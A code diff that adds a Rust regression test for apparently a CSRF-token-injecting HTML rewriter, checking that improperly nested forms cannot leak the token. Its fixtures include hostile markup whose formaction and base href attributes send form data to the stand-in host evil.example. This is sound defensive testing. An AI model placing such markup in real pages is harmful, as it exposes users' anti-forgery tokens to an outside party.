@@ -151,6 +151,31 @@ async fn a_button_that_would_send_the_field_elsewhere_is_switched_off() {
     }
 }
 
+// Each of these sent the field elsewhere in a browser before it was guarded against.
+// proves: CSRF-1
+#[tokio::test]
+async fn forms_that_are_not_nested_properly_give_nothing_away() {
+    for switched_off in [
+        "<form method=post action=/ok><form method=post action=//evil.example><button formaction=//evil.example>",
+        "<form method=post action=/ok><i></form><input type=image formaction=//evil.example>",
+        "<form method=post action=/ok><div><form action=/search><button formaction=//evil.example>",
+    ] {
+        let out = rewritten(switched_off).await;
+        assert!(out.contains("T0KEN") && out.contains(" disabled"), "{out}");
+    }
+    for without in [
+        "<form action=/search><button formaction=//evil.example><form method=post>",
+        "<form action=/search><base href=//evil.example><form method=post>",
+        "<form action=/search><base href=//evil.example><form method=post action=https://app.example/x>",
+    ] {
+        assert_eq!(rewritten(without).await, without);
+    }
+    // An honest search box keeps its second button, before and after other forms.
+    let search = "<form action=/search><button formaction=https://search.example/></form>";
+    let page = format!("{search}<form method=post></form>{search}");
+    assert_eq!(rewritten(&page).await, page.replace("method=post>", &format!("method=post>{FIELD}")));
+}
+
 // proves: CSRF-3
 #[tokio::test]
 async fn what_only_looks_like_a_form_is_left_alone() {
